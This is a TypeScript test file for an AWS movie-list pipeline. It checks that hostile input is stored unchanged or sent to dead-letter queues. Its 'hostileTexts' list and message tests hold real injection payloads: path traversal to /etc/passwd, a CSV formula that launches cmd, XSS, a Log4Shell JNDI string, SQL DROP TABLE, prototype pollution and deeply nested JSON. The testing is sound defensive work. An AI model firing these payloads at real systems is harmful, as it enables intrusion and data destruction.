import { readFile } from "node:fs/promises"
import { SendMessageCommand } from "@aws-sdk/client-sqs"
import { assert, describe, it } from "@effect/vitest"
import * as Schema from "effect/Schema"
import { csvKey } from "../../domain/keys.ts"
import { readDayRows } from "../../local/run/RunResult.ts"
import { type SharedStack, useSharedStack } from "../local/sharedStack.ts"
import { completesWith, countRecords, fifth, first, runAgain, runWith, topTen } from "./failureTests.ts"
import { checkRun } from "./runOutcome.ts"

/** Texts that are known to do harm, for every field with a text. */
const hostileTexts: ReadonlyArray<string> = [
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  `"quoted", 'and' "again""`,
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-1|2\\|3",
  "@SUM(A1:A9)",
  "'already an apostrophe",
  "<script>alert(1)</script>",
  "two\r\nlines,and\ta tab",
  "bell \u0007, escape \u001b[31m, delete \u007f",
  "$" + "{jndi:ldap://example.com/a} {{7*7}} %00 %2e%2e%2f",
  "'; DROP TABLE movies; --",
  "__proto__",
  "ends with a noncharacter \uFFFF",
  "\u202Eright to left, é, 映画, 🎬"
]
const deepJson = `${"[".repeat(100_000)}${"]".repeat(100_000)}`

const decodeList = Schema.decodeUnknownSync(
  Schema.fromJsonString(
    Schema.Struct({
      items: Schema.Array(Schema.Struct({ id: Schema.String, rank: Schema.String, title: Schema.String }))
    })
  )
)
const sampleRows = async () =>
  decodeList(await readFile(new URL("../../sample/Top250Movies.json", import.meta.url), "utf8")).items.slice(0, 50)

const { current } = useSharedStack()

describe("the source list", () => {
  it("leaves the run's event in failed-runs, with the reason in one sentence, when it cannot be read", async () => {
    const shared = current()
    const { summary, outcome } = await runWith(shared, [{ at: "list", times: 3, what: { kind: "forbidden" } }])
    assert.deepStrictEqual([summary.complete, outcome.enriched, shared.omdb.calls.length], [false, [], 0])
    assert.deepStrictEqual(Object.keys(outcome.deadLetters), ["failed-runs"])
    assert.deepStrictEqual([outcome.deadLetters["failed-runs"]?.length, summary.failures.length], [1, 1])
    const detail = summary.failures[0]?.detail ?? ""
    assert.match(detail, /Access ?Denied/)
    assert.include(detail, "s3://top-movies/Top250Movies.json")
    assert.isBelow(detail.length, 300)
    await runAgain(shared, summary.runDate)
  })

  it("is refused in one sentence when it is nested a hundred thousand levels deep", async () => {
    const shared = current()
    await shared.setSourceList(`{"items":[${deepJson}]}`)
    const { runDate, failures } = await shared.run()
    assert.strictEqual((await checkRun(shared, runDate)).deadLetters["failed-runs"]?.length, 1)
    assert.match(failures[0]?.detail ?? "", /row 1 /)
    assert.isBelow(failures[0]?.detail.length ?? 0, 300)
  })

  it("brings titles with paths, quotes, formulas, tags and control characters unchanged into CSV and table", async () => {
    const shared = current()
    const items = (await sampleRows()).map((row, index) => {
      const text = hostileTexts[index]
      return text === undefined ? row : { ...row, title: text, crew: text }
    })
    await shared.setSourceList(JSON.stringify({ items, errorMessage: "" }))
    const { runDate, complete } = await shared.run({ top: 25 })
    assert.isTrue(complete)
    assert.deepStrictEqual((await checkRun(shared, runDate)).enriched.slice(0, 10), [...topTen])
    const rows = await readDayRows(shared.stack, runDate)
    assert.deepStrictEqual(
      rows.slice(0, hostileTexts.length).map(({ title }) => title),
      hostileTexts
    )
  })
})

describe("a reply of OMDb", () => {
  it.each([
    [
      "paths, formulas and control characters in every field",
      JSON.stringify({
        ...Object.fromEntries(
          ["Title", "Rated", "Genre", "Director", "Writer", "Actors", "Plot", "Awards", "Poster", "Website"].map(
            (name, index) => [name, hostileTexts[index]]
          )
        ),
        imdbID: fifth,
        Response: "True"
      })
    ],
    [
      "prototype keys, deep JSON and long texts",
      [
        `{"Title":"Odd","imdbID":"${fifth}","Response":"True","__proto__":{"Plot":"Polluted"}`,
        `"constructor":"Polluted","toString":${deepJson},"Year":${deepJson}`,
        `"Plot":"${"a".repeat(100_000)}","Genre":"${"ab, ".repeat(100_000)}"}`
      ].join()
    ]
  ])("is stored under its id, bounded, with %s", async (_, body) => {
    const shared = current()
    const runDate = await completesWith(shared, [
      { at: "omdb", imdbId: fifth, what: { kind: "custom", status: 200, body } }
    ])
    const object = (await shared.objects()).get(`enriched/run_date=${runDate}/${fifth}.json`) ?? ""
    assert.isBelow(object.length, 20_000)
  })
})

const sendToMovies = async ({ stack }: SharedStack, bodies: ReadonlyArray<string>) => {
  const QueueUrl = stack.names.queues.find(({ logical }) => logical === "movies")?.url
  for (const MessageBody of bodies) {
    await stack.cloud.clients.sqs.send(new SendMessageCommand({ QueueUrl, MessageBody }))
  }
  await stack.lambda.idle()
}

describe("a message", () => {
  it("becomes a dead letter after eight receives when it cannot be decoded, and the others go on", async () => {
    const shared = current()
    const records = countRecords(shared, "EnrichAndStoreMovie")
    const what = { kind: "replace", find: '"version":1', with: '"version":2' } as const
    const { summary, outcome } = await runWith(shared, [{ at: "delivery", queue: "movies", imdbId: fifth, what }])
    assert.isFalse(summary.complete)
    assert.deepStrictEqual([outcome.enriched.length, outcome.gaps, outcome.deadLettered], [9, {}, [fifth]])
    assert.deepStrictEqual(Object.keys(outcome.deadLetters), ["movies-dead-letters"])
    assert.deepStrictEqual(records, { deleted: 9, failed: 8 })
    assert.match(shared.logs(), /The message is invalid/)
    await runAgain(shared, summary.runDate)
  })

  it("becomes a dead letter and writes nothing with a path, prototype keys or deep JSON in place of a movie", async () => {
    const shared = current()
    const { runDate } = await shared.run({ top: 1 })
    const before = await shared.objects()
    const records = countRecords(shared, "EnrichAndStoreMovie")
    const movie = { imdbId: first, rank: 1, title: "Odd" }
    const message = { version: 1, runDate, total: 1, movie }
    const bodies = [
      { ...message, movie: { ...movie, imdbId: "../../csv/x" } },
      { ...message, movie: { ...movie, imdbId: `${first}/../../runs/${runDate}` } },
      { ...message, runDate: "../../2026-01-01" },
      { ...message, runDate: `${runDate}\n` },
      { ...message, movie: { ...movie, title: "a".repeat(200_000) } }
    ].map((body) => JSON.stringify(body))
    bodies.push("__proto__", '{"__proto__":{"version":1}}', deepJson, "null")
    await sendToMovies(shared, bodies)
    const { deadLetters } = await checkRun(shared, runDate)
    assert.sameMembers([...(deadLetters["movies-dead-letters"] ?? [])], bodies)
    assert.deepStrictEqual(records, { deleted: 0, failed: 8 * bodies.length })
    assert.deepStrictEqual([...(await shared.objects())], [...before])
    for (const line of shared.logs().split("\n")) assert.isBelow(line.length, 10_000)
  })

  it("becomes a dead letter of the FIFO queue after five receives when stage 3 cannot decode it", async () => {
    const shared = current()
    const what = { kind: "replace", find: '"version":1', with: '"version":2' } as const
    const { outcome } = await runWith(shared, [{ at: "delivery", queue: "exports", imdbId: fifth, what }])
    assert.deepStrictEqual([outcome.enriched.length, outcome.deadLetters["exports-dead-letters"]?.length], [10, 1])
  })

  it("changes no newer row when an older CSV's notification is received last", async () => {
    const shared = current()
    const { stack, newRunDate } = shared
    const runDate = newRunDate()
    const schedule = stack.names.schedules[0]?.physical ?? ""
    // Runs the day again, for five movies, as soon as its first CSV is there.
    stack.cloud.events.once("objectCreated", function again({ key }) {
      if (key !== csvKey(runDate)) return void stack.cloud.events.once("objectCreated", again)
      void stack.lambda.fireSchedule(schedule, new Date(), { runDate, top: 5 })
    })
    const late = { at: "delivery", queue: "loads", what: { kind: "delay", seconds: 900 } } as const
    const { summary, outcome } = await runWith(shared, [late], { runDate })
    assert.deepStrictEqual([summary.complete, outcome.enriched.length], [true, 5])
    const messages = shared.messages().join()
    const sequencers = [...messages.matchAll(/"sequencer":"(\w+)"/g)].map(([, sequencer]) => sequencer)
    assert.isAtLeast(sequencers.length, 2)
    assert.strictEqual(sequencers.at(-1), sequencers.toSorted().at(0))
  })
})
